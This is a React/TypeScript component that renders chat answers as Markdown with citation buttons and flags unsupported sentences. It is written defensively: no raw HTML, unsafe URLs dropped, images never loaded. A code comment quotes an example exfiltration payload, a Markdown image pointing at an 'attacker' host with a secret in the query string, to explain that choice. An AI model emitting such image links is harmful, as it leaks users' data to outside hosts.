"use client";

import * as React from "react";
import ReactMarkdown, { type Components, type Options } from "react-markdown";
import remarkGfm from "remark-gfm";
import { ChatLink } from "./chat-link";
import { remarkCitations } from "./remark-citations";
import { remarkSentences, type SentenceRange } from "./remark-sentences";

export const UNSUPPORTED = "Not found in the cited sources";

interface MarkdownProps {
  text: string;
  /** Citation numbers that have a source; other `[n]` stay plain text. */
  known: ReadonlySet<number>;
  /** `sentence`: the index (in `sentences`) of the sentence the marker is in, if any. */
  onCite: (n: number, sentence: number | null) => void;
  /** The checked sentences of a stored answer, by offsets into `text`. */
  sentences?: readonly SentenceRange[];
}

/** The sentence a citation marker is in, so it can open the passage that backs that sentence. */
const SentenceIndex = React.createContext<number | null>(null);

function CiteButton({ n, onCite }: { n: number; onCite: MarkdownProps["onCite"] }) {
  const sentence = React.useContext(SentenceIndex);
  return (
    <button
      type="button"
      aria-label={`Source ${n}`}
      onClick={() => onCite(n, sentence)}
      className="mx-0.5 inline-flex h-4.5 min-w-4.5 -translate-y-0.5 items-center justify-center rounded-sm bg-primary/10 px-1 align-baseline text-[0.7rem] font-semibold text-primary not-italic hover:bg-primary/20 focus-visible:outline-2 focus-visible:outline-offset-1 focus-visible:outline-ring"
    >
      {n}
    </button>
  );
}

function Sentence({
  props,
  children,
}: {
  props: Record<string, unknown>;
  children: React.ReactNode;
}) {
  const index = Number(props["data-s"]);
  if (!Number.isInteger(index)) return <span>{children}</span>;
  const supported = props["data-supported"] !== "false";
  return (
    <SentenceIndex.Provider value={index}>
      {supported ? (
        <span data-sentence={index}>{children}</span>
      ) : (
        <span
          data-sentence={index}
          data-supported="false"
          title={UNSUPPORTED}
          className="text-muted-foreground underline decoration-muted-foreground/70 decoration-dotted underline-offset-4"
        >
          {children}
          {props["data-last"] === "true" ? <span className="sr-only"> ({UNSUPPORTED})</span> : null}
        </span>
      )}
    </SentenceIndex.Provider>
  );
}

/**
 * An answer as Markdown. No rehype-raw: raw HTML in the text is never rendered as HTML, and
 * react-markdown drops unsafe URLs (javascript: and the like). Images are never loaded: an
 * answer could otherwise make the browser fetch `![](https://attacker/?q=secret)` on its own, so
 * only their alt text is shown. Links to other sites open only after a confirmation that shows
 * their full address (see ChatLink). Sentences the server found no support for are shown muted
 * and underlined, labelled for screen readers.
 */
export const Markdown = React.memo(function Markdown({
  text,
  known,
  onCite,
  sentences,
}: MarkdownProps) {
  const components = React.useMemo<Components>(
    () => ({
      a: ({ href, children }) => <ChatLink href={href}>{children}</ChatLink>,
      img: ({ alt }) => (
        <span className="text-muted-foreground italic">[{alt?.trim() || "image"}]</span>
      ),
      // Without raw HTML, every span comes from remarkSentences.
      span: ({ node: _node, children, ...props }) => (
        <Sentence props={props as Record<string, unknown>}>{children}</Sentence>
      ),
      cite: ({ node: _node, ...props }) => {
        const n = Number((props as Record<string, unknown>)["data-n"]);
        if (!known.has(n)) return <span>[{n}]</span>;
        return <CiteButton n={n} onCite={onCite} />;
      },
    }),
    [known, onCite],
  );
  const plugins = React.useMemo<Options["remarkPlugins"]>(
    () => [remarkGfm, [remarkSentences, { sentences: sentences ?? [] }], remarkCitations],
    [sentences],
  );

  return (
    <div className="prose-chat break-words">
      <ReactMarkdown remarkPlugins={plugins} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
});
